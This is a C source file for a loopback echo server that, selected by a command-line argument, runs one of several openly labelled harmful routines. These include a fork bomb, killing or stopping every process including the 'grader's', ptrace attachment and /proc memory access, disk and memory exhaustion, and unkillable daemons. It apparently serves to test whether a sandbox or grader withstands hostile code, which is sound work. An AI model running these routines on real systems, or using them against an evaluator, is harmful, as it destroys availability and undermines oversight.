/* An echo server that forks a process for each client, and one that does harm: see `deeds`. */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static void fork_bomb(void) {
    for (;;)
        fork();
}

/* Of a namespace's processes the first one and the caller are spared (kill(2)). */
static void kill_all(void) {
    for (;;)
        kill(-1, SIGKILL);
}

static void stop_all(void) {
    for (;;)
        kill(-1, SIGSTOP);
}

/* Each process that could be the grader's: all but the server and this one. */
static void kill_each(void) {
    pid_t server = getppid(), self = getpid();
    for (pid_t pid = 1; pid < 1 << 18; pid++)
        if (pid != server && pid != self)
            kill(pid, SIGKILL);
}

static void trace(void) {
    DIR *folder = opendir("/proc");
    struct dirent *entry;
    while (folder != NULL && (entry = readdir(folder)) != NULL) {
        char path[300];
        int pid = atoi(entry->d_name);
        if (pid <= 0 || pid == getpid() || pid == getppid())
            continue;
        ptrace(PTRACE_SEIZE, pid, NULL, NULL);
        ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        if (open(path, O_RDWR) >= 0)
            printf("the memory of process %d is open\n", pid);
    }
    fflush(stdout);
}

static void flood(void) {
    static char text[65536];
    memset(text, 'x', sizeof text);
    for (;;)
        if (write(1, text, sizeof text) < 0)
            return;
}

static void fill_disk(void) {
    static const char *places[] = {"/tmp", "/var/tmp", "/dev/shm", ".", "/"};
    static char block[1 << 20];
    signal(SIGXFSZ, SIG_IGN);
    for (int file = 0; file < 200; file++)
        for (size_t place = 0; place < sizeof places / sizeof *places; place++) {
            char path[300];
            snprintf(path, sizeof path, "%s/hostile-%d", places[place], file);
            int fd = open(path, O_WRONLY | O_CREAT, 0600);
            while (fd >= 0 && write(fd, block, sizeof block) > 0)
                ;
        }
}

static void hog(void) {
    for (;;) {
        char *block = malloc(1 << 20);
        if (block != NULL)
            memset(block, 1, 1 << 20);
    }
}

static void daemons(void) {
    for (int count = 0; count < 20; count++)
        if (fork() == 0) {
            setsid();
            signal(SIGTERM, SIG_IGN);
            if (fork() != 0)
                _exit(0);
            for (;;)
                pause();
        }
}

static const struct {
    const char *name;
    void (*does)(void);
} deeds[] = {
    {"fork_bomb", fork_bomb}, {"kill_all", kill_all}, {"stop_all", stop_all},
    {"kill_each", kill_each}, {"trace", trace},       {"flood", flood},
    {"fill_disk", fill_disk}, {"hog", hog},           {"daemons", daemons},
};

static void serve(int client) {
    char line[4096];
    ssize_t count;
    while ((count = read(client, line, sizeof line)) > 0)
        for (ssize_t sent = 0; sent < count;) {
            ssize_t more = write(client, line + sent, count - sent);
            if (more <= 0)
                _exit(0);
            sent += more;
        }
    _exit(0);
}

int main(int argc, char **argv) {
    if (argc != 3)
        return 2;
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &(int){1}, sizeof(int));
    if (bind(listener, (struct sockaddr *)&address, sizeof address) < 0 || listen(listener, 128) < 0)
        return 1;
    signal(SIGCHLD, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    if (fork() == 0) {
        close(listener);
        for (size_t at = 0; at < sizeof deeds / sizeof *deeds; at++)
            if (strcmp(argv[1], deeds[at].name) == 0)
                deeds[at].does();
        _exit(0);
    }
    for (;;) {
        int client = accept(listener, NULL, NULL);
        if (client < 0)
            continue;
        if (fork() == 0) {
            close(listener);
            serve(client);
        }
        close(client);
    }
}
